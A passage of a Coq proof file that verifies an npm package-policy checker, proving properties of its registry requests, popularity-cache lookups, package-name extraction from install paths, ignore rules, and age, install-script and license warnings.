  apply asksOnly_bind; [apply asksOnly_fetchJson; by eexists|]. intros json.
  repeat asks_step. apply asksOnly_writeRegistryCacheFile.
Qed.

Lemma asksOnly_cacheRegistryKeys packageName version :
  asksOnly isRegistryUrl (cacheRegistryKeys env packageName version).
Proof.
  intros w r w'. unfold cacheRegistryKeys.
  destruct (cachedKeys env packageName version w).
  { intros [= <- <-]. exists []. by rewrite app_nil_r. }
  revert w r w'. fold (asksOnly (A := RegistryCacheKeys) isRegistryUrl).
  apply asksOnly_bind; [apply asksOnly_fetchJson; by eexists|]. intros json.
  repeat asks_step. apply asksOnly_writeRegistryCacheFile.
Qed.

Lemma asksOnly_checkPackage packageName packageVersion :
  asksOnly isRegistryUrl (checkPackage getTime env config packageName packageVersion).
Proof.
  unfold checkPackage. repeat (asks_step || apply asksOnly_cacheRegistry).
Qed.

Lemma asksOnly_checkPackageAge minAge packageName version :
  asksOnly isRegistryUrl (checkPackageAge getTime env minAge packageName version).
Proof.
  unfold checkPackageAge. repeat (asks_step || apply asksOnly_cacheRegistryKeys).
Qed.

Lemma asksOnly_processLocalPackageJson dep :
  asksOnly isRegistryUrl (processLocalPackageJson env config dep).
Proof. unfold processLocalPackageJson. repeat asks_step. Qed.

(** On an object that is no array, an assignment adds the number under
    the name and nothing else. *)
Lemma setProperty_plain (obj : JsObject) (name : string) (downloads : Downloads) :
  kind obj = PlainObject →
  ∃ obj',
    setProperty obj name downloads = Some obj'
    ∧ kind obj' = PlainObject
    ∧ own obj' = match downloads with
                 | Count n => <[name := n]> (own obj)
                 | NotACount _ => own obj
                 end.
Proof. intros Hkind. unfold setProperty. rewrite Hkind. by eexists. Qed.

Lemma recordDownloads_plain irev threshold name downloads st :
  kind (packageDownloadCache st) = PlainObject →
  ∃ st',
    recordDownloads irev threshold name downloads st = Ok st'
    ∧ kind (packageDownloadCache st') = PlainObject
    ∧ checkedPackageDownloads st' = {[ name ]} ∪ checkedPackageDownloads st
    ∧ ∀ n, n ≠ name →
        own (packageDownloadCache st') !! n = own (packageDownloadCache st) !! n.
Proof.
  intros Hkind. unfold recordDownloads.
  destruct (notSentinel downloads); [|by eexists].
  destruct (setProperty_plain _ name downloads Hkind) as (obj' & -> & Hkind' & Hown).
  eexists. split; [done|]. cbn [packageDownloadCache checkedPackageDownloads].
  split; [done|]. split; [done|]. intros n Hn. rewrite Hown.
  destruct downloads; [by rewrite lookup_insert_ne|done].
Qed.

Section invariant.
Variable cache0 : JsObject.
Variable w0 : World.
Variable threshold : Z.
Hypothesis Henabled : enableDownloadCheck config = Some threshold.

Local Abbreviation Inv := (loopInvariant env cache0 w0).

Lemma loopInvariant_requests done st w w' more :
  Inv done st w → fetched w' = fetched w ++ more → Forall isRegistryUrl more →
  Inv done st w'.
Proof.
  intros (more0 & Hw & Hallowed & Hkind & Hcache & Hasked & Hdone) Hw' Hmore.
  exists (more0 ++ more). rewrite Hw', Hw, app_assoc. split; [done|]. split.
  - apply Forall_app. split; [done|]. eapply Forall_impl; [exact Hmore|]. by left.
  - split; [done|]. split; [done|]. split; [|done].
    intros n Hn Hfalsy. apply elem_of_app. left. by apply Hasked.
Qed.

Lemma loopInvariant_pushWarnings done st w p :
  Inv done st w → Inv done (pushWarnings p st) w.
Proof. done. Qed.

(** While a name is unchecked, the cache reads at it as [cache0] does. *)
Lemma loopInvariant_read done st w n :
  kind cache0 = PlainObject →
  Inv done st w → n ∉ checkedPackageDownloads st →
  getProperty env (packageDownloadCache st) n = getProperty env cache0 n.
Proof.
  intros Hplain (more0 & _ & _ & Hkind & Hcache & _) Hn.
  unfold getProperty. by rewrite (Hcache n Hn), Hkind, Hplain.
Qed.

Lemma downloadCheck_invariant irev done dep st w st' w' :
  kind cache0 = PlainObject →
  Inv done st w →
  downloadCheck env irev drev config dep st w = (Ok st', w') →
  Inv (done ++ [dep]) st' w'.
Proof.
  intros Hplain HInv.
  pose proof HInv as (more0 & Hw & Hallowed & Hkind & Hcache & Hasked & Hdone).
  destruct (decide (d_name dep ∈ checkedPackageDownloads st)) as [Hin|Hnew].
  { unfold downloadCheck. rewrite Henabled, bool_decide_eq_true_2, mret_run by done.
    intros [= <- <-]. exists more0. repeat split; try done.
    intros d [Hd|Hd%list_elem_of_singleton]%elem_of_app; [by apply Hdone|by subst d]. }
  rewrite (downloadCheck_enabled env irev drev config _ _ _ _ Henabled Hnew).
  pose proof (loopInvariant_read _ _ _ _ Hplain HInv Hnew) as Hentry.
  pose proof (lookupDownloads_world env drev (d_name dep) st w) as Hw1.
  destruct (lookupDownloads env drev (d_name dep) st w) as [[downloads| |] w1] eqn:Hlook;
    [|done..].
  destruct (recordDownloads_plain irev threshold (d_name dep) downloads st Hkind)
    as (st1 & -> & Hkind1 & Hchecked1 & Hown1).
  intros [= <- <-]. simpl in Hw1.
  assert (Hstate : ∀ more,
    fetched w1 = fetched w0 ++ more →
    Forall (allowedRequest env cache0) more →
    (∀ n, n ∈ checkedPackageDownloads st → falsyCount env cache0 n →
       downloadsUrl n ∈ more) →
    (falsyCount env cache0 (d_name dep) → downloadsUrl (d_name dep) ∈ more) →
    Inv (done ++ [dep]) st1 w1).
  { intros more Hw1' Hall Hold Hnow. exists more. split; [done|]. split; [done|].
    split; [done|]. rewrite Hchecked1. split.
    - intros n Hn. apply not_elem_of_union in Hn as [Hne Hn].
      apply not_elem_of_singleton in Hne. rewrite Hown1 by done. by apply Hcache.
    - split.
      + intros n [Hn%elem_of_singleton|Hn]%elem_of_union Hfalsy.
        * subst n. by apply Hnow.
        * by apply Hold.
      + intros d [Hd|Hd%list_elem_of_singleton]%elem_of_app.
        * apply elem_of_union. right. by apply Hdone.
        * subst d. apply elem_of_union. left. by apply elem_of_singleton. }
  case_bool_decide as Hfalsy; subst w1.
  - apply (Hstate (more0 ++ [downloadsUrl (d_name dep)])).
    + simpl. by rewrite Hw, app_assoc.
    + apply Forall_app. split; [done|]. constructor; [|constructor].
      right. exists (d_name dep). split; [done|].
      unfold falsyCount in *. by rewrite <- Hentry.
    + intros n Hn Hfalsy0. apply elem_of_app. left. by apply Hasked.
    + intros _. apply elem_of_app. right. left.
  - apply (Hstate more0); try done.
    intros Hfalsy0. destruct Hfalsy. unfold falsyCount in *. by rewrite Hentry.
Qed.

Lemma checkDependency_invariant irev done dep st w st' w' :
  kind cache0 = PlainObject →
  Inv done st w →
  checkDependency getTime env irev drev config dep st w = (Ok st', w') →
  Inv (done ++ [dep]) st' w'.
Proof.
  intros Hplain HInv. unfold checkDependency. destruct irev.
  - rewrite mbind_run.
    destruct (checkPackage getTime env config (d_name dep) (d_version dep) w)
      as [[p| |] w1] eqn:Hp; [|done..].
    destruct (asksOnly_checkPackage _ _ _ _ _ Hp) as (more & Hw1 & Hmore).
    apply downloadCheck_invariant; [done|]. apply loopInvariant_pushWarnings.
    by eapply loopInvariant_requests.
  - rewrite mbind_run.
    destruct (processLocalPackageJson env config dep w) as [[p| |] w1] eqn:Hp; [|done..].
    destruct (asksOnly_processLocalPackageJson _ _ _ _ Hp) as (more & Hw1 & Hmore).
    assert (HInv1 : Inv done (pushWarnings p st) w1).
    { apply loopInvariant_pushWarnings. by eapply loopInvariant_requests. }
    rewrite mbind_run.
    destruct (c_minPackageAge config) as [minAge|].
    2: { rewrite mret_run. by apply downloadCheck_invariant. }
    destruct (0 <? minAge)%Z.
    2: { rewrite mret_run. by apply downloadCheck_invariant. }
    rewrite mbind_run.
    destruct (checkPackageAge getTime env minAge (d_name dep) (d_version dep) w1)
      as [[found| |] w2] eqn:Hage; [|done..].
    destruct (asksOnly_checkPackageAge _ _ _ _ _ _ Hage) as (more2 & Hw2 & Hmore2).
    assert (HInv2 : Inv done (pushWarnings p st) w2) by (by eapply loopInvariant_requests).
    destruct found as [found|]; rewrite mret_run; by apply downloadCheck_invariant.
Qed.
End invariant.
End loop.

Section run_level.
Variable satisfies : string → string → bool.
Variable basename : string → string.
Variable getTime : string → option Z.
Variable env : Env.
Variable irev : IndexRevision.
Variable drev : DownloadsRevision.
Variable config : Config.

Lemma checkAll_flat deps st w :
  checkAll getTime env irev drev config deps st w
  = forM (checkDependency getTime env irev drev config) deps st w.
Proof.
  unfold checkAll. rewrite forM_concat. unfold batchStarts.
  by rewrite batches_cover by lia.
Qed.

(** X29.  In a run whose loop completes, with the popularity check enabled
    and [cache0] the popularity cache it starts with, an object and not an
    array (the persisted one when caching is on): the downloads of an
    installed name are requested when [cache0] reads at it as [undefined]
    or as [0], although an entry may be present, and of no name at which it
    reads otherwise, be it a cached count other than [0] or a property that
    the object inherits.  At the expression itself, for a name not yet
    checked: a falsy read makes exactly one request, any other makes
    none. *)
Theorem downloads_are_requested_where_the_cache_reads_falsy
    deps cache0 w st' w' threshold :
  enableDownloadCheck config = Some threshold →
  kind cache0 = PlainObject →
  checkAll getTime env irev drev config deps
    {| warnings := []; packageDownloadCache := cache0; checkedPackageDownloads := ∅ |} w
  = (Ok st', w') →
  (∃ more,
     fetched w' = fetched w ++ more
     ∧ (∀ dep, dep ∈ deps →
          getProperty env cache0 (d_name dep) = None
          ∨ getProperty env cache0 (d_name dep) = Some (Count 0%Z) →
          downloadsUrl (d_name dep) ∈ more)
     ∧ (∀ n cached, own cache0 !! n = Some cached → cached ≠ 0%Z →
          downloadsUrl n ∉ more)
     ∧ (∀ n, own cache0 !! n = None → is_Some (inherited env PlainObject n) →
          downloadsUrl n ∉ more))
  ∧ (∀ dep st w,
       d_name dep ∉ checkedPackageDownloads st →
       (getProperty env (packageDownloadCache st) (d_name dep) = None
        ∨ getProperty env (packageDownloadCache st) (d_name dep) = Some (Count 0%Z) →
        fetched (downloadCheck env irev drev config dep st w).2
        = fetched w ++ [downloadsUrl (d_name dep)])
       ∧ (∀ downloads,
            getProperty env (packageDownloadCache st) (d_name dep) = Some downloads →
            downloads ≠ Count 0%Z →
            downloadCheck env irev drev config dep st w
            = (recordDownloads irev threshold (d_name dep) downloads st, w)))
  ∧ (∀ w0 persisted,
       packageDownloadsJson w0 = Some (DownloadsJson persisted) →
       getPackageDownloadCache w0 = (Ok {| kind := PlainObject; own := persisted |}, w0)).
Proof.
  intros Hen Hplain Hrun. split; [|split].
  - rewrite checkAll_flat in Hrun.
    assert (Hstart : loopInvariant env cache0 w []
      {| warnings := []; packageDownloadCache := cache0; checkedPackageDownloads := ∅ |} w).
    { exists []. rewrite app_nil_r. split; [done|]. split; [constructor|].
      split; [done|]. split; [done|]. split.
      - intros n Hn. by apply elem_of_empty in Hn.
      - intros d Hd. by apply elem_of_nil in Hd. }
    pose proof (forM_prefix_invariant (loopInvariant env cache0 w) _
                  (λ done dep st w1 st1 w2,
                     checkDependency_invariant getTime env drev config cache0 w threshold
                       Hen irev done dep st w1 st1 w2 Hplain)
                  deps [] _ _ _ _ Hstart Hrun)
      as (more & Hw' & Hallowed & _ & _ & Hasked & Hdone).
    exists more. split; [done|]. split.
    { intros dep Hdep Hfalsy. apply Hasked; [|done]. by apply Hdone. }
    assert (Hnot : ∀ n, ¬ falsyCount env cache0 n → downloadsUrl n ∉ more).
    { intros n Hn Hin. rewrite Forall_forall in Hallowed.
      destruct (Hallowed _ Hin) as [[n' Hreg]|(n' & Hurl & Hfalsy)].
      - symmetry in Hreg. by apply registryUrl_not_downloadsUrl in Hreg.
      - apply downloadsUrl_inj in Hurl as <-. done. }
    split.
    + intros n cached Hc Hnz. apply Hnot. unfold falsyCount, getProperty. rewrite Hc.
      intros [?|?]; congruence.
    + intros n Hc [v Hv]. apply Hnot. unfold falsyCount, getProperty.
      rewrite Hc, Hplain, Hv. by intros [?|?].
  - intros dep st w1 Hnew.
    destruct (downloadCheck_on_cache env irev drev config dep st w1 threshold Hen Hnew)
      as (Hmiss & Hhit & _).
    split; [|done]. intros Hfalsy. by destruct (Hmiss Hfalsy) as (_ & ?).
  - intros w0 persisted Hp. unfold getPackageDownloadCache. by rewrite Hp.
Qed.
End run_level.


(** ** Package names from install paths *)

Lemma includes_false_no_index (sub s : string) (i : nat) :
  includes sub s = false → lastIndexOf_from sub s i = None.
Proof.
  revert i. induction s as [|c s IH]; intros i; simpl.
  - rewrite orb_false_r. by intros ->.
  - intros [Hp Hs]%orb_false_elim. rewrite (IH _ Hs).
    simpl in Hp. by rewrite Hp.
Qed.

Lemma lastIndexOf_from_app (sub p t : string) (i j : nat) :
  lastIndexOf_from sub t (i + String.length p) = Some j →
  lastIndexOf_from sub (p +:+ t) i = Some j.
Proof.
  revert i. induction p as [|c p IH]; intros i; simpl.
  - by rewrite Nat.add_0_r.
  - intros Ht. rewrite (IH (S i)); [done|].
    by rewrite <- Ht, Nat.add_succ_r.
Qed.

Lemma substringFrom_app (p t : string) (n : nat) :
  substringFrom (String.length p + n) (p +:+ t) = substringFrom n t.
Proof. induction p as [|c p IH]; simpl; [done|apply IH]. Qed.

Lemma lastIndexOf_from_node_modules (name : string) (k : nat) :
  includes "node_modules/" name = false →
  lastIndexOf_from "node_modules/" ("node_modules/" +:+ name) k = Some k.
Proof.
  intros Hname.
  rewrite append_String. cbn [lastIndexOf_from].
  rewrite includes_false_no_index.
  - rewrite <- append_String. simpl. rewrite append_empty. by destruct name.
  - simpl. by rewrite append_empty.
Qed.

Lemma withoutAt_no_index (s : string) (i : nat) :
  withoutAt s = true → lastIndexOf_from "@" s i = None.
Proof.
  revert i. induction s as [|c s IH]; intros i; [done|].
  cbn [withoutAt lastIndexOf_from].
  intros [Hc Hs]%andb_prop. rewrite (IH _ Hs).
  apply negb_true_iff, Ascii.eqb_neq in Hc.
  change (String.prefix "@" (String c s))
    with (if Ascii.ascii_dec atSign c then String.prefix "" s else false).
  by destruct (Ascii.ascii_dec atSign c) as [<-|].
Qed.

Lemma withoutAt_app (p t : string) :
  withoutAt (p +:+ t) = withoutAt p && withoutAt t.
Proof.
  induction p as [|c p IH]; [by rewrite append_empty|].
  rewrite append_String. cbn [withoutAt]. by rewrite IH, andb_assoc.
Qed.

(** X5.  [packageNameFromPath] on the path of a nested installation: what
    follows the last [node_modules/] is the name. *)
Theorem packageNameFromPath_innermost (basename : string → string)
    (parent name : string) :
  parent ≠ "" →
  includes "node_modules/" name = false →
  packageNameFromPath basename (parent +:+ "node_modules/" +:+ name) = name.
Proof.
  intros Hparent Hname. unfold packageNameFromPath, lastIndexOf.
  rewrite (lastIndexOf_from_app _ _ _ 0 (String.length parent))
    by (by apply lastIndexOf_from_node_modules).
  destruct parent as [|c parent]; [done|].
  change (String.length (String c parent)) with (S (String.length parent)).
  cbv iota beta.
  change (S (String.length parent)) with (String.length (String c parent)).
  rewrite substringFrom_app. simpl. by rewrite append_empty.
Qed.

(** X6.  [packageNameFromPath] on the path of a top-level installation: there
    [lastIndexOf('node_modules/')] is [0], which the test [i > 0] rejects; a
    scoped name is then found from its [@], and any name without [@] is left
    to [basename]. *)
Theorem packageNameFromPath_top_level (basename : string → string) (name : string) :
  includes "node_modules/" name = false →
  (∀ rest, name = "@" +:+ rest → withoutAt rest = true →
     packageNameFromPath basename ("node_modules/" +:+ name) = name)
  ∧ (withoutAt name = true →
     packageNameFromPath basename ("node_modules/" +:+ name)
     = basename ("node_modules/" +:+ name)).
Proof.
  intros Hname. unfold packageNameFromPath, lastIndexOf.
  rewrite (lastIndexOf_from_node_modules name 0 Hname). split.
  - intros rest -> Hrest.
    rewrite (lastIndexOf_from_app "@" "node_modules/" _ 0 13).
    + simpl. by rewrite !append_empty.
    + rewrite append_String, append_empty. cbn [lastIndexOf_from].
      rewrite (withoutAt_no_index _ _ Hrest).
      change (String.prefix "@" (String atSign rest))
        with (if Ascii.ascii_dec atSign atSign then String.prefix "" rest else false).
      destruct (Ascii.ascii_dec atSign atSign); [|done]. by destruct rest.
  - intros Hat. rewrite withoutAt_no_index; [done|].
    by rewrite withoutAt_app, Hat.
Qed.

(** ** Entries the extractor leaves out, and missing lockfiles *)

(** X7.  No dependency that extraction returns satisfies [config.ignore]: a
    version that matches the range given for its name is never checked. *)
Theorem ignored_versions_are_not_extracted
    (satisfies : string → string → bool) (basename : string → string)
    (rev : IndexRevision) (config : Config) (dir : RepoDir)
    (out : list Dependency) (d : Dependency) :
  readInstalledPackagesFromLockfile satisfies basename rev config dir = Ok out →
  d ∈ out →
  matchingRange satisfies (c_ignore config) (d_name d) (d_version d) = None.
Proof.
  intros Hout Hd.
  destruct (readInstalled_entries _ _ _ _ _ _ Hout)
    as (packages & deps & _ & Hperm & _ & _ & Hfirst & _).
  rewrite Hperm in Hd.
  destruct (Hfirst d Hd) as (l1 & p & s & l2 & _ & -> & _ & Hig & _).
  unfold ignoredEntry in Hig. apply bool_decide_eq_false in Hig.
  cbn [dependencyOf d_name d_version].
  destruct (matchingRange _ _ _ _) as [r|]; [|done].
  destruct Hig. by eexists.
Qed.

(** X8.  Without [package-lock.json] the extraction throws, whether or not
    [yarn.lock] or [pnpm-lock.yaml] exist, and [processRepo] ends with an
    error in the world it started in: nothing was requested, written or
    asked.  The error is that of the extraction, unless
    [package-policy.lock], which is read before the extraction, does not
    parse. *)
Theorem run_needs_package_lock
    (satisfies : string → string → bool) (basename : string → string)
    (getTime : string → option Z) (env : Env) (irev : IndexRevision)
    (drev : DownloadsRevision) (config : Config) (dir : RepoDir) :
  packageLockJson dir = None →
  ∃ err,
    readInstalledPackagesFromLockfile satisfies basename irev config dir = Throw err
    ∧ ∀ w, ∃ err',
        processRepo satisfies basename getTime env irev drev config dir w
        = (Throw err', w)
        ∧ (packagePolicyLock w ≠ Some BadPolicyLock → err' = err).
Proof.
  intros Hdir.
  assert (Hread : ∃ err,
    readInstalledPackagesFromLockfile satisfies basename irev config dir = Throw err).
  { unfold readInstalledPackagesFromLockfile. rewrite Hdir.
    repeat case_match; by eexists. }
  destruct Hread as [err Hread]. exists err. split; [done|]. intros w.
  by apply processRepo_extraction_fails.
Qed.

(** ** The checks on one package *)

Section one_package.
Variable getTime : string → option Z.
Variable env : Env.
Variable config : Config.

Lemma ageProblem_package minAge label version time :
  Forall (λ problem, w_package problem = label ∧ w_cacheKey problem = version)
    (ageProblem getTime env minAge label version time).
Proof. unfold ageProblem. repeat case_match; repeat constructor. Qed.

Lemma scriptProblems_package label scripts :
  Forall (λ problem,
            w_package problem = label
            ∧ ∃ key value,
                key ∈ scriptList ∧ (key, value) ∈ scripts
                ∧ w_cacheKey problem = key +:+ ": " +:+ value)
    (scriptProblems label scripts).
Proof.
  unfold scriptProblems. induction scripts as [|[key value] scripts IH]; simpl.
  - constructor.
  - assert (Hrest : Forall (λ problem,
              w_package problem = label
              ∧ ∃ key0 value0,
                  key0 ∈ scriptList ∧ (key0, value0) ∈ (key, value) :: scripts
                  ∧ w_cacheKey problem = key0 +:+ ": " +:+ value0)
              (omap (λ '(key, value),
                 if scriptList_includes key then
                   Some {| w_package := label;
                           w_message := "will run script " +:+ dquote +:+ key +:+ dquote
                                          +:+ ": " +:+ dquote +:+ value +:+ dquote;
                           w_type := script;
                           w_cacheKey := key +:+ ": " +:+ value |}
                 else None) scripts)).
    { eapply Forall_impl; [exact IH|].
      intros problem (Hp & key0 & value0 & Hk & Hin & Hc).
      split; [done|]. exists key0, value0. split; [done|]. split; [by right|done]. }
    destruct (scriptList_includes key) eqn:Hkey; [|done].
    constructor; [|done]. split; [done|]. exists key, value.
    split; [by apply bool_decide_eq_true in Hkey|]. split; [left|done].
Qed.

Lemma licenseProblems_package label found :
  Forall (λ problem,
            w_package problem = label
            ∧ c_licenses config ≠ []
            ∧ (w_cacheKey problem = "no license" ∨ w_cacheKey problem ∉ c_licenses config))
    (licenseProblems config label found).
Proof.
  unfold licenseProblems. destruct (c_licenses config) as [|l0 ls] eqn:Hl; [constructor|].
  destruct found as [l|].
  - destruct (truthy l).
    + destruct (bool_decide (l ∈ l0 :: ls)) eqn:Hin; [constructor|].
      apply bool_decide_eq_false in Hin.
      constructor; [|constructor]. split; [done|]. split; [done|by right].
    + constructor; [|constructor]. split; [done|]. split; [done|by left].
  - constructor; [|constructor]. split; [done|]. split; [done|by left].
Qed.

(** [cacheRegistry] on a miss: one request, then an error that leaves the
    files alone, or the record of a version the registry knows, stored when
    caching is on and the cache directory writable. *)
Lemma cacheRegistry_miss packageName version w :
  cachedRecord env packageName version w = None →
  ∃ r w',
    cacheRegistry env packageName version w = (r, w')
    ∧ fetched w' = fetched w ++ [registryUrl packageName]
    ∧ packageDownloadsJson w' = packageDownloadsJson w
    ∧ packagePolicyLock w' = packagePolicyLock w
    ∧ prompts w' = prompts w
    ∧ match r with
      | Ok record =>
          registryKnows env w packageName version
          ∧ rc_version record = 1%Z
          ∧ (∀ v, is_Some (rc_versions record !! v) ↔
                  ∃ json versions,
                    net env (fetched w) (registryUrl packageName) = Http true (Some json)
                    ∧ j_versions json = Some versions ∧ is_Some (versions !! v))
          ∧ registryCacheFiles w' =
              if opt_cache env && cacheDirWritable env
              then <[packageName := StoredRecord record]> (registryCacheFiles w)
              else registryCacheFiles w
      | Throw _ => registryCacheFiles w' = registryCacheFiles w
      | Exit _ => False
      end.
Proof.
  intros Hmiss. unfold cacheRegistry. rewrite Hmiss, mbind_run.
  unfold fetchJson, registryKnows.
  destruct (net env (fetched w) (registryUrl packageName)) as [|[|] [json|]] eqn:Hnet;
    try (by eexists _, _).
  destruct (j_versions json) as [versions|] eqn:Hversions; [|by eexists _, _].
  destruct (versions !! version) as [meta|] eqn:Hmeta; [|by eexists _, _].
  destruct (j_time json) as [time|] eqn:Htime; [|by eexists _, _].
  destruct (time !! version) as [published|] eqn:Hpublished; [|by eexists _, _].
  rewrite mbind_run.
  assert (Hv : ∀ v, is_Some ((
      (λ data, {| vm_license := vm_license data; vm_scripts := vm_scripts data |})
        <$> versions) !! v) ↔
    ∃ json0 versions0,
      Http true (Some json) = Http true (Some json0)
      ∧ j_versions json0 = Some versions0 ∧ is_Some (versions0 !! v)).
  { intros v. rewrite lookup_fmap, fmap_is_Some. split.
    - intros Hv. by exists json, versions.
    - intros (json0 & versions0 & [= <-] & Hj & Hv). congruence. }
  assert (Hk : ∃ json0 versions0 time0,
    Http true (Some json) = Http true (Some json0)
    ∧ j_versions json0 = Some versions0 ∧ is_Some (versions0 !! version)
    ∧ j_time json0 = Some time0 ∧ is_Some (time0 !! version)).
  { exists json, versions, time. repeat split; try done; by eexists. }
  destruct (opt_cache env); [|by eexists _, _].
  rewrite try_catch_run. unfold writeRegistryCacheFile.
  destruct (cacheDirWritable env); by eexists _, _.
Qed.

Lemma packageProblems_package packageName packageVersion json :
  Forall (λ problem, w_package problem = packageName +:+ "@" +:+ packageVersion)
    (packageProblems getTime env config packageName packageVersion json).
Proof.
  unfold packageProblems.
  assert (Hfirst : Forall
    (λ problem, w_package problem = packageName +:+ "@" +:+ packageVersion)
    match c_minPackageAge config with
    | Some minAge =>
        if (minAge =? 0)%Z then []
        else ageProblem getTime env minAge (packageName +:+ "@" +:+ packageVersion)
               packageVersion (rc_time json !! packageVersion)
    | None => []
    end).
  { repeat case_match; try constructor.
    eapply Forall_impl; [apply ageProblem_package|]. by intros problem [? _]. }
  destruct (rc_versions json !! packageVersion) as [meta|]; [|done].
  rewrite !Forall_app. split; [done|]. split.
  - eapply Forall_impl; [apply scriptProblems_package|]. by intros problem [? _].
  - eapply Forall_impl; [apply licenseProblems_package|]. by intros problem [? _].
Qed.

(** X9.  [checkPackage] of [src/lib/index.ts] never throws: it returns the
    problems of the cached record when there is one, and otherwise makes one
    request; when the registry does not give the version (the request fails,
    or the document lacks it) the package passes with no warning at all.
    Every warning it returns is labelled [name@version]. *)
Theorem checkPackage_fails_open packageName packageVersion w :
  ∃ problems w',
    checkPackage getTime env config packageName packageVersion w = (Ok problems, w')
    ∧ Forall (λ problem, w_package problem = packageName +:+ "@" +:+ packageVersion)
        problems
    ∧ (∀ cache, cachedRecord env packageName packageVersion w = Some cache →
         problems = packageProblems getTime env config packageName packageVersion cache
         ∧ w' = w)
    ∧ (cachedRecord env packageName packageVersion w = None →
       fetched w' = fetched w ++ [registryUrl packageName]
       ∧ (¬ registryKnows env w packageName packageVersion → problems = [])).
Proof.
  unfold checkPackage. rewrite try_catch_run, mbind_run.
  destruct (cachedRecord env packageName packageVersion w) as [cache|] eqn:Hhit.
  - unfold cacheRegistry. rewrite Hhit, mret_run.
    eexists _, _. split; [done|]. split; [apply packageProblems_package|].
    split; [|done]. by intros ? [= <-].
  - destruct (cacheRegistry_miss _ _ _ Hhit) as (r & w1 & -> & Hw1 & _ & _ & _ & Hr).
    destruct r as [record|err|code]; [| |done]; rewrite mret_run.
    + eexists _, _. split; [done|]. split; [apply packageProblems_package|].
      split; [done|]. intros _. split; [done|]. intros Hno. by destruct Hr as [? _].
    + eexists _, _. split; [done|]. split; [constructor|]. by split.
Qed.
End one_package.

(** ** The registry cache, written and read back *)

Section registry_round_trip.
Variable env : Env.

Lemma cacheRegistryKeys_miss packageName version w :
  cachedKeys env packageName version w = None →
  ∃ r w',
    cacheRegistryKeys env packageName version w = (r, w')
    ∧ fetched w' = fetched w ++ [registryUrl packageName]
    ∧ packageDownloadsJson w' = packageDownloadsJson w
    ∧ packagePolicyLock w' = packagePolicyLock w
    ∧ prompts w' = prompts w
    ∧ match r with
      | Ok record =>
          rk_version record = 1%Z
          ∧ version ∈ rk_versions record
          ∧ registryCacheFiles w' =
              if opt_cache env && cacheDirWritable env
              then <[packageName := StoredKeys record]> (registryCacheFiles w)
              else registryCacheFiles w
      | Throw _ => registryCacheFiles w' = registryCacheFiles w
      | Exit _ => False
      end.
Proof.
  intros Hmiss. unfold cacheRegistryKeys. rewrite Hmiss, mbind_run.
  unfold fetchJson.
  destruct (net env (fetched w) (registryUrl packageName)) as [|[|] [json|]] eqn:Hnet;
    try (by eexists _, _).
  destruct (j_versions json) as [versions|] eqn:Hversions; [|by eexists _, _].
  destruct (versions !! version) as [meta|] eqn:Hmeta; [|by eexists _, _].
  destruct (j_time json) as [time|] eqn:Htime; [|by eexists _, _].
  destruct (time !! version) as [published|] eqn:Hpublished; [|by eexists _, _].
  rewrite mbind_run.
  assert (Hin : version ∈ (map_to_list versions).*1).
  { apply list_elem_of_fmap. exists (version, meta). split; [done|].
    by apply elem_of_map_to_list. }
  destruct (opt_cache env); [|by eexists _, _].
  rewrite try_catch_run. unfold writeRegistryCacheFile.
  destruct (cacheDirWritable env); by eexists _, _.
Qed.

(** X10.  With caching on and a writable cache directory, the record
    [cacheRegistry] has returned is afterwards served from the cache,
    without a request, for every version it lists; in both revisions. *)
Theorem cacheRegistry_result_is_served_again packageName version w :
  opt_cache env = true →
  cacheDirWritable env = true →
  (∀ record w1,
     cacheRegistry env packageName version w = (Ok record, w1) →
     ∀ version', is_Some (rc_versions record !! version') →
       cacheRegistry env packageName version' w1 = (Ok record, w1))
  ∧ (∀ record w1,
       cacheRegistryKeys env packageName version w = (Ok record, w1) →
       ∀ version', version' ∈ rk_versions record →
         cacheRegistryKeys env packageName version' w1 = (Ok record, w1)).
Proof.
  intros Hcache Hwritable. split.
  - intros record w1 Hrun version' Hv'.
    assert (Hserved : cachedRecord env packageName version' w1 = Some record).
    { apply cachedRecord_Some. split; [done|].
      destruct (cachedRecord env packageName version w) as [cache|] eqn:Hhit.
      - unfold cacheRegistry in Hrun. rewrite Hhit in Hrun. injection Hrun as <- <-.
        apply cachedRecord_Some in Hhit as (_ & Hfile & Hone & _). done.
      - destruct (cacheRegistry_miss _ _ _ _ Hhit) as (r & w' & Hrun' & _ & _ & _ & _ & Hr).
        rewrite Hrun in Hrun'. injection Hrun' as <- <-.
        destruct Hr as (_ & Hone & _ & Hfiles).
        rewrite Hcache, Hwritable in Hfiles. simpl in Hfiles.
        split; [|done]. by rewrite Hfiles, lookup_insert_eq. }
    unfold cacheRegistry. by rewrite Hserved.
  - intros record w1 Hrun version' Hv'.
    assert (Hserved : cachedKeys env packageName version' w1 = Some record).
    { apply cachedKeys_Some. split; [done|].
      destruct (cachedKeys env packageName version w) as [cache|] eqn:Hhit.
      - unfold cacheRegistryKeys in Hrun. rewrite Hhit in Hrun. injection Hrun as <- <-.
        apply cachedKeys_Some in Hhit as (_ & Hfile & Hone & _). done.
      - destruct (cacheRegistryKeys_miss _ _ _ Hhit) as (r & w' & Hrun' & _ & _ & _ & _ & Hr).
        rewrite Hrun in Hrun'. injection Hrun' as <- <-.
        destruct Hr as (Hone & _ & Hfiles).
        rewrite Hcache, Hwritable in Hfiles. simpl in Hfiles.
        split; [|done]. by rewrite Hfiles, lookup_insert_eq. }
    unfold cacheRegistryKeys. by rewrite Hserved.
Qed.
End registry_round_trip.

(** ** Computations that keep a relation between the worlds *)

Section stays.
Context (R : World → World → Prop) `{!PreOrder R}.

Lemma stays_ret {A : Type} (a : A) : stays R (mret a).
Proof. intros w r w'. rewrite mret_run. by intros [= <- <-]. Qed.

Lemma stays_throw {A : Type} (err : string) : stays R (throw (A := A) err).
Proof. intros w r w'. unfold throw. by intros [= <- <-]. Qed.

Lemma stays_liftResult {A : Type} (r : Result A) :
  (∀ code, r ≠ Exit code) → stays R (liftResult r).
Proof. intros Hr w r' w'. unfold liftResult. by intros [= <- <-]. Qed.

Lemma stays_bind {A B : Type} (m : M A) (k : A → M B) :
  stays R m → (∀ a, stays R (k a)) → stays R (m ≫= k).
Proof.
  intros Hm Hk w r w'. rewrite mbind_run.
  destruct (m w) as [[a|err|code] w1] eqn:Hrun.
  - intros Hrest. destruct (Hm _ _ _ Hrun) as [H1 _].
    destruct (Hk a _ _ _ Hrest) as [H2 Hne]. split; [by etrans|done].
  - intros [= <- <-]. split; [by eapply Hm|done].
  - destruct (Hm _ _ _ Hrun) as [_ Hne]. by destruct (Hne code).
Qed.

Lemma stays_try_catch {A : Type} (m : M A) (handler : string → M A) :
